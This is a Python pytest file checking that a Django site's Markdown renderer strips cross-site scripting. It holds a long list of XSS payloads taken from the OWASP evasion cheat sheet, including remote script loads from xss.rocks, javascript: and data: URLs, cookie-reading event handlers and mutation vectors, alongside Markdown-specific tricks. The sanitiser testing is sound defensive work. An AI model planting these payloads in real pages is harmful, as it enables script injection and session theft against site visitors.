"""What managers write, as visitors' browsers get it: the XSS Filter Evasion
Cheat Sheet of OWASP (https://cheatsheetseries.owasp.org/cheatsheets/
XSS_Filter_Evasion_Cheat_Sheet.html), then the tricks of Markdown itself,
through ``content_html``. Whatever goes in, what comes out holds only the
elements and attributes of ``alphasierra.markdown``, no event attribute, no
address of another scheme than http, https, mailto or tel, and images of the
site's own uploads only; and a text's headings, lists, tables and links stay."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from alphasierra.content.models import Image
from alphasierra.content.rendering import content_html, image_markdown
from alphasierra.markdown import ATTRIBUTES, TAGS, URL_SCHEMES
from alphasierra.organisations.models import Organisation

pytestmark = pytest.mark.django_db

OWN = "/media/contenu/" + "a" * 32 + ".jpg"  # an upload of Sud-Ouest
OTHER = "/media/contenu/" + "b" * 32 + ".png"  # an upload of Nord
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"  # <script>alert('XSS')</script>
ALLOWED_ATTRIBUTES = {**{tag: set(names) for tag, names in ATTRIBUTES.items()}, "img": {"src", "alt"}}
ALLOWED_ATTRIBUTES["a"] = ALLOWED_ATTRIBUTES["a"] | {"rel"}
ALLOWED_TAGS = TAGS | {"img"}

# The XSS Filter Evasion Cheat Sheet, as it stands (its vectors that a text's
# HTML can carry), then the classic mutation and SVG vectors.
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    '&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
    "&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{B64_SCRIPT}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    '<A HREF="http://66.102.7.147/">XSS</A>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    # Mutation XSS and SVG: what a parser reads otherwise once serialised.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<details open ontoggle=alert(1)>",
]

# The tags and addresses the house rules name, in HTML and in Markdown.
PORTAL = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://example.org></iframe>",
    "<object data=https://example.org/x.swf></object>",
    "<embed src=https://example.org/x.swf>",
    "<style>p { color: red }</style>",
    '<link rel="import" href="https://example.org/x.html">',
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    '<h2 onmouseover="alert(1)">Titre</h2>',
    '<table onmouseover="alert(1)"><tr><td onclick="alert(2)">x</td></tr></table>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="javascript:alert(1)"><input type="submit" value="Envoyer"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://example.org/">',
    f'<img src="{OWN}" onerror="alert(1)">',
    f'<img src="{OTHER}">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav%09ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org "titre" onmouseover="alert(1)")',
    '[x](https://example.org "titre\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{B64_SCRIPT})",
    "![x](https://tracker.example/pixel.png)",
    f'![x" onerror="alert(1)]({OWN})',
    f'![x]({OWN} "t\\" onerror=\\"alert(1)")',
    f"![x]({OTHER})",
    f"[![x]({OWN})](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    f"<data:text/html;base64,{B64_SCRIPT}>",
    "<vbscript:msgbox(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
]
PAYLOADS = OWASP + PORTAL
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Elements(HTMLParser):
    """Every element of the HTML, with its attributes (entities decoded, as a browser reads them)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def scheme_of(address: str) -> str:
    """The scheme a browser would read (``""`` for a relative address), with
    whatever it skips removed first."""
    compact = re.sub(r"[\x00-\x20\x7f-\x9f\ufffd]", "", unquote(address))
    found = _SCHEME.match(compact)
    return found.group(1).lower() if found else ""


def problems_of(html: str, own_images: set[str]) -> list[str]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    problems = []
    if "<script" in html.lower():
        problems.append("a <script")
    for tag, attrs in parser.found:
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}>")
            continue
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}>")
            elif name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                problems.append(f"<{tag} {name}=…>")
            elif name in ("href", "src") and scheme_of(value or "") not in URL_SCHEMES | {""}:
                problems.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and values.get("href"):
            rel = (values.get("rel") or "").split()
            if "noopener" not in rel or "noreferrer" not in rel:
                problems.append(f"<a> without noopener noreferrer: {rel}")
        if tag == "img" and values.get("src") not in own_images:
            problems.append(f"<img src={values.get('src')!r}>")
    return problems


@pytest.fixture
def sud_ouest() -> Organisation:
    sud_ouest, nord = Organisation.objects.get(slug="sud-ouest"), Organisation.objects.get(slug="nord")
    for organisation, url, alt in ((sud_ouest, OWN, "Le car du CLAS"), (nord, OTHER, "La plage")):
        Image.objects.create(
            organisation=organisation,
            file=url.removeprefix("/media/"),
            alt=alt,
            format="jpeg",
            width=40,
            height=30,
            size=1000,
        )
    return sud_ouest


def test_the_list_holds_the_cheat_sheet_and_the_house_rules():
    assert len(OWASP) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_through(sud_ouest, payload):
    html = content_html(sud_ouest, payload)

    assert problems_of(html, {OWN}) == []


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_no_payload_gets_through_inside_a_text_either(sud_ouest, payload):
    html = content_html(sud_ouest, f"## Sortie\n\nDépart à 8 h. {payload} Retour à 18 h.\n\n- {payload}\n")

    assert problems_of(html, {OWN}) == []


def test_the_checker_sees_what_it_must_refuse():
    own = {OWN}

    assert problems_of('<p onclick="x">a</p>', own) == ["<p onclick>"]
    assert problems_of('<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer">a</a>', own) != []
    assert problems_of('<a href="https://example.org">a</a>', own) == ["<a> without noopener noreferrer: []"]
    assert problems_of(f'<img src="{OTHER}" alt="x">', own) == [f"<img src={OTHER!r}>"]
    assert problems_of("<iframe></iframe>", own) == ["<iframe>"]
    assert problems_of("<p>&lt;script&gt;</p>", own) == []


def test_headings_lists_tables_and_links_are_kept(sud_ouest):
    html = content_html(
        sud_ouest,
        "# Le CLAS\n\n## Nos permanences\n\n### Le lundi\n\n- lundi\n- jeudi\n\n1. s'inscrire\n2. payer\n\n"
        "| Jour | Heure |\n|:-----|------:|\n| lundi | 9 h |\n\n"
        "[Programme](https://example.org/programme.pdf), [nous écrire](mailto:clas@example.fr), "
        "[appeler](tel:+33561000000), [les activités](/sud-ouest/activites/)",
    )

    # The page's title is its h1: the text's headings start at h2.
    assert "<h2>Le CLAS</h2>\n<h2>Nos permanences</h2>\n<h3>Le lundi</h3>" in html
    assert "<ul>\n<li>lundi</li>\n<li>jeudi</li>\n</ul>" in html
    assert "<ol>\n<li>s'inscrire</li>" in html
    assert '<th align="left">Jour</th>' in html
    assert '<td align="right">9 h</td>' in html
    assert '<a href="https://example.org/programme.pdf" rel="noopener noreferrer nofollow">Programme</a>' in html
    assert 'href="mailto:clas@example.fr"' in html
    assert 'href="tel:+33561000000"' in html
    assert 'href="/sud-ouest/activites/"' in html
    assert problems_of(html, {OWN}) == []


def test_an_image_of_the_site_s_own_uploads_is_shown_with_its_description(sud_ouest):
    html = content_html(sud_ouest, f"![Le car devant le CLAS]({OWN})\n\n![]({OWN})")

    assert f'<img src="{OWN}" alt="Le car devant le CLAS">' in html
    # Without a description, the one given on upload.
    assert f'<img src="{OWN}" alt="Le car du CLAS">' in html


def test_the_markdown_of_the_images_page_shows_the_image(sud_ouest):
    image = Image.objects.get(file=OWN.removeprefix("/media/"))
    image.alt = "Le [car] du *CLAS* \\o/"

    html = content_html(sud_ouest, image_markdown(image))

    assert f'<img src="{OWN}" alt="Le [car] du *CLAS* \\o/">' in html


@pytest.mark.parametrize(
    "text",
    [f"![La plage]({OTHER})", "![Pixel](https://tracker.example/pixel.png)", f"![x](https://portail.example{OWN})"],
    ids=["another site's upload", "an image from elsewhere", "the upload by a full address"],
)
def test_an_image_not_of_the_site_s_own_uploads_is_not_an_img(sud_ouest, text):
    html = content_html(sud_ouest, text)

    assert "<img" not in html
    assert html.startswith("<p>")


def test_an_img_of_raw_html_is_never_kept_even_of_the_site_s_own_uploads(sud_ouest):
    html = content_html(sud_ouest, f'<img src="{OWN}" alt="Le car">')

    assert "<img" not in html


def test_a_description_cannot_leave_its_attribute(sud_ouest):
    html = content_html(sud_ouest, f'![x" onerror="alert(1)]({OWN})')

    assert f'<img src="{OWN}" alt="x&quot; onerror=&quot;alert(1)">' in html
